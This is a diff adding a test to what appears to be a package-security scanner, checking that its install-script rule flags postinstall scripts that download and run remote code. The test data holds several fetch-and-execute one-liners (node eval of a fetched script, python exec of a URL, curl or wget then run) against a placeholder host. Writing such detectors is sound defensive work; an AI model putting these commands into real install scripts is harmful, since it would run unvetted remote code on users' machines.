@@ -45,3 +45,30 @@ def test_scripts_of_ones_own_that_run_what_the_network_gives(inspect: Callable[.
         ("warning", "a/package.json", 2),
         ("warning", "package.json", 2),
     ]
+
+
+def test_downloads_in_a_line_of_code_and_downloads_that_are_run_next(inspect: Callable[..., list[Finding]]) -> None:
+    scripts = [
+        "node -e \\\"require('https').get('https://x.example.org/a.js', r => r.pipe(require('fs').createWriteStream('a.js')))\\\"",
+        "node --eval \\\"fetch('https://x.example.org').then(r => r.text()).then(eval)\\\"",
+        "python3 -c \\\"import urllib.request as u; exec(u.urlopen('https://x.example.org').read())\\\"",
+        "curl -fsSL https://x.example.org/i.sh -o i.sh && chmod +x i.sh && ./i.sh",
+        "wget -O i.js https://x.example.org/i.js; node i.js",
+    ]
+    fine = [
+        "node -e \\\"try{require('husky')}catch{}\\\"",
+        "node scripts/fetch.js",
+        "curl -o data.json https://x.example.org/data.json",
+        'python3 -c \\"print(1)\\"',
+        "node -e " + "x" * 100_000,
+    ]
+
+    def tree(texts: list[str]) -> dict[str, object]:
+        return {
+            f"p{at}": {"package.json": f'{{"scripts": {{\n"postinstall": "{text}"}}}}'} for at, text in enumerate(texts)
+        }
+
+    assert [(one.severity, one.path) for one in inspect("install-script-present", tree(scripts))] == [
+        ("warning", f"p{at}/package.json") for at in range(len(scripts))
+    ]
+    assert inspect("install-script-present", tree(fine)) == []
